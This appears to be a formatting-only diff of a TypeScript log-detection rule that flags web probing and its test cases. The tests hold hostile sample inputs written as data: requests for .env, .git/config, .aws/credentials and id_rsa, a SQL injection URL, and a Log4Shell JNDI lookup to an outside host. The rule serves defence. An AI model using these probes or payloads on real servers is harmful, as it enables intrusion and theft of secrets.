@@ -5,7 +5,7 @@ import { defineRule } from '../kit/define-rule.ts'
 import { familiesOf, PAYLOAD_FAMILIES, traitsOf } from '../kit/payloads/index.ts'
 import { advise, blockSources } from '../kit/recommend.ts'
 import { ServedPages } from './support/served.ts'
-import { accessLine, type Answer, ANSWER_NAMES, ANSWERS, answerOf, shortTarget } from './support/web.ts'
+import { ANSWER_NAMES, ANSWERS, type Answer, accessLine, answerOf, shortTarget } from './support/web.ts'
 import { grouped, listed, many } from './support/words.ts'
 
 /** Pages that a site's own people use too: one request says nothing, a row of them that are not there does. */
@@ -16,14 +16,31 @@ const FOREIGN = traitsOf('wordpress_admin', 'phpmyadmin', 'actuator', 'server_st
 const ASIDE = traitsOf('open_proxy', 'double_encoding')
 /** What is told as found where it was served: files and pages, as against payloads that any page may be given. */
 const THINGS = traitsOf(
-  'env_file', 'git_exposure', 'secret_file', 'backup_file', 'actuator', 'server_status', 'phpunit_eval_stdin', 'webshell',
-  'cgi_shell_traversal', 'lfi_file_read', 'path_traversal', 'router_exploit', 'boaform', 'known_cve',
+  'env_file',
+  'git_exposure',
+  'secret_file',
+  'backup_file',
+  'actuator',
+  'server_status',
+  'phpunit_eval_stdin',
+  'webshell',
+  'cgi_shell_traversal',
+  'lfi_file_read',
+  'path_traversal',
+  'router_exploit',
+  'boaform',
+  'known_cve',
 )
 const MOST_EXAMPLES = 5
 const MOST_SERVED = 8
 
 /** What a source has tried: traits, examples, answers by kind, and what was served with which size and traits. */
-type Record = readonly [traits: number, examples: readonly string[], answers: readonly number[], served: readonly Served[]]
+type Record = readonly [
+  traits: number,
+  examples: readonly string[],
+  answers: readonly number[],
+  served: readonly Served[],
+]
 type Served = readonly [target: string, size: number, traits: number]
 
 const EMPTY: Record = [0, [], ANSWERS.map(() => 0), []]
@@ -42,7 +59,8 @@ function extend(record: Record, event: EventView, answer: Answer): Record {
   ]
 }
 
-const titles = (ids: readonly string[]): string[] => ids.map(id => PAYLOAD_FAMILIES.find(family => family.id === id)?.title ?? id)
+const titles = (ids: readonly string[]): string[] =>
+  ids.map(id => PAYLOAD_FAMILIES.find(family => family.id === id)?.title ?? id)
 
 export default defineRule({
   id: 'web-probe',
@@ -57,7 +75,11 @@ export default defineRule({
     'is the same page for everything counts as not served.',
   on: ['web.request'],
   options: {
-    ambiguous: z.int().min(1).max(1000).default(3)
+    ambiguous: z
+      .int()
+      .min(1)
+      .max(1000)
+      .default(3)
       .describe('Distinct management pages that were not there, asked for in a day, at which those alone are raised.'),
   },
   detect: ({ ambiguous }, { state }) => {
@@ -94,7 +116,9 @@ export default defineRule({
           facts: {
             families: familiesOf(all),
             examples,
-            answers: ANSWERS.flatMap((name, index) => (answers[index] > 0 ? [`${grouped(answers[index])} ${ANSWER_NAMES[name]}`] : [])),
+            answers: ANSWERS.flatMap((name, index) =>
+              answers[index] > 0 ? [`${grouped(answers[index])} ${ANSWER_NAMES[name]}`] : [],
+            ),
             clear: (all & ~AMBIGUOUS) !== 0,
             found: found.map(([target]) => target),
             taken: served.filter(([, , had]) => (had & THINGS) === 0).map(([target]) => target),
@@ -129,13 +153,32 @@ export default defineRule({
         },
         { text: `Answers: ${texts('answers').join(', ')}`, feature: 'answers' },
         { text: `Asked for: ${listed(texts('examples'), MOST_EXAMPLES)}` },
-        ...(found.length > 0 ? [{ text: `The server gave, with pages of their own: ${listed(found, 8)}`, feature: 'served', observed: found.length, expected: '0' }] : []),
+        ...(found.length > 0
+          ? [
+              {
+                text: `The server gave, with pages of their own: ${listed(found, 8)}`,
+                feature: 'served',
+                observed: found.length,
+                expected: '0',
+              },
+            ]
+          : []),
         ...(found.length === 0 && taken.length > 0
-          ? [{ text: 'Pages that exist were given attack payloads and answered; whether they took effect the log does not tell' }]
+          ? [
+              {
+                text: 'Pages that exist were given attack payloads and answered; whether they took effect the log does not tell',
+              },
+            ]
           : []),
       ],
       recommendations: [
-        ...(found.length > 0 ? [advise(`Look at what was served, remove it from the document root, and renew any secret in it: ${listed(found, 8)}`)] : []),
+        ...(found.length > 0
+          ? [
+              advise(
+                `Look at what was served, remove it from the document root, and renew any secret in it: ${listed(found, 8)}`,
+              ),
+            ]
+          : []),
         ...blockSources(story.sources, host),
       ],
     }
@@ -145,14 +188,27 @@ export default defineRule({
       { name: 'one request for .env', lines: [accessLine('/.env')], accuses: ['203.0.113.7'], severity: 'low' },
       {
         name: 'a repository that was served',
-        lines: [accessLine('/', { source: '192.0.2.9', status: 200, size: 5120 }), accessLine('/.git/config', { status: 200, size: 274, second: 9 })],
+        lines: [
+          accessLine('/', { source: '192.0.2.9', status: 200, size: 5120 }),
+          accessLine('/.git/config', { status: 200, size: 274, second: 9 }),
+        ],
         severity: 'high',
       },
-      { name: 'SQL injection that a page answered', lines: [accessLine("/item?id=1'+union+select+1,2--", { status: 200, size: 9000 })], severity: 'medium' },
-      { name: 'Log4Shell in the agent', lines: [accessLine('/', { status: 200, agent: '${jndi:ldap://198.51.100.9/a}' })], severity: 'medium' },
+      {
+        name: 'SQL injection that a page answered',
+        lines: [accessLine("/item?id=1'+union+select+1,2--", { status: 200, size: 9000 })],
+        severity: 'medium',
+      },
+      {
+        name: 'Log4Shell in the agent',
+        lines: [accessLine('/', { status: 200, agent: '${jndi:ldap://198.51.100.9/a}' })],
+        severity: 'medium',
+      },
       {
         name: 'a row of management pages that are not there',
-        lines: ['/phpmyadmin/', '/wp-login.php', '/pma/', '/wp-admin/'].map((path, second) => accessLine(path, { second })),
+        lines: ['/phpmyadmin/', '/wp-login.php', '/pma/', '/wp-admin/'].map((path, second) =>
+          accessLine(path, { second }),
+        ),
         severity: 'low',
       },
       { name: 'WordPress, asked for on a site that has none', lines: [accessLine('/wp-login.php')], severity: 'info' },
@@ -160,29 +216,55 @@ export default defineRule({
         name: 'an application of one page that answers everything: nothing was served',
         lines: [
           accessLine('/', { source: '192.0.2.9', status: 200, size: 1234 }),
-          ...['/.env', '/.git/config', '/.aws/credentials'].map((path, second) => accessLine(path, { second, status: 200, size: 1234 })),
+          ...['/.env', '/.git/config', '/.aws/credentials'].map((path, second) =>
+            accessLine(path, { second, status: 200, size: 1234 }),
+          ),
         ],
         severity: 'low',
       },
       {
         name: 'the same, where the home page was never seen',
-        lines: ['/.env', '/.git/config', '/.aws/credentials', '/id_rsa'].map((path, second) => accessLine(path, { second, status: 200, size: 1234 })),
+        lines: ['/.env', '/.git/config', '/.aws/credentials', '/id_rsa'].map((path, second) =>
+          accessLine(path, { second, status: 200, size: 1234 }),
+        ),
         severity: 'low',
       },
     ],
     quiet: [
       {
         name: 'a WordPress site and the people who write it',
-        lines: ['/wp-login.php', '/wp-admin/', '/wp-admin/edit.php', '/wp-admin/admin-ajax.php', '/wp-admin/load-styles.php?c=1']
-          .map((path, second) => accessLine(path, { second, status: 200, size: 4000 + second })),
+        lines: [
+          '/wp-login.php',
+          '/wp-admin/',
+          '/wp-admin/edit.php',
+          '/wp-admin/admin-ajax.php',
+          '/wp-admin/load-styles.php?c=1',
+        ].map((path, second) => accessLine(path, { second, status: 200, size: 4000 + second })),
       },
-      { name: 'names that look like it', lines: ['/.github/a.yml', '/app.envelope.js', '/.environment', '/shop/linear-actuator-12v', '/pets?tags=dog|cat', '/a;id/3'].map(path => accessLine(path)) },
+      {
+        name: 'names that look like it',
+        lines: [
+          '/.github/a.yml',
+          '/app.envelope.js',
+          '/.environment',
+          '/shop/linear-actuator-12v',
+          '/pets?tags=dog|cat',
+          '/a;id/3',
+        ].map(path => accessLine(path)),
+      },
       {
         name: 'a bookmark of a page that is gone',
-        lines: [accessLine('/wp-login.php', { status: 200, size: 5000, source: '192.0.2.4' }), accessLine('/wp-login.php'), accessLine('/wp-login.php', { second: 60 })],
+        lines: [
+          accessLine('/wp-login.php', { status: 200, size: 5000, source: '192.0.2.4' }),
+          accessLine('/wp-login.php'),
+          accessLine('/wp-login.php', { second: 60 }),
+        ],
       },
       { name: 'prose in a search', lines: [accessLine("/search?q=rock+and+roll+or+O'Brien", { status: 200 })] },
     ],
   },
-  falsePositives: ['Your own security scan.', 'A search engine that follows an attack which somebody published as a link.'],
+  falsePositives: [
+    'Your own security scan.',
+    'A search engine that follows an attack which somebody published as a link.',
+  ],
 })
